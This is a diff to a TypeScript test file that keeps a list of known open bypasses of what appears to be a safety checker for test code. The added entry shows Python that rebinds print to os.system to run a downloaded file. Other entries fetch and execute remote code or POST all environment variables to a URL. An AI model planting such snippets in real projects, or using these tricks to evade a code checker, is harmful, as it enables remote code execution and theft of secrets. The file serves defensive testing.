@@ -101,6 +101,9 @@ describe('review 64 findings R3/R4: variants refused since the fix', () => {
 });
 
 const BYPASSES_OPEN: Array<[string, string]> = [
+  // R6 (open, found checking R1; accepted at safety64 too): a reader rebound to a shell runs the download by its name.
+  ['tests/test_x.py', "p = urlretrieve(u)[0]\nprint = os.system\nprint(p)"],
+  ['tests/test_x.py', "p = urlretrieve(u)[0]\nfrom os import system as print\nprint(p)"],
   ['tests/x.test.js', "const p = await download(u);\nrequire(p);"],
   ['tests/x.test.js', "execSync(`curl -o /tmp/m.js ${u}`);\nconst r = module.createRequire(import.meta.url);\nr('/tmp/m.js');"],
   ['tests/test_x.py', "data = json.dumps(dict(os.environ))\nrequests.post(u, data=data)"],
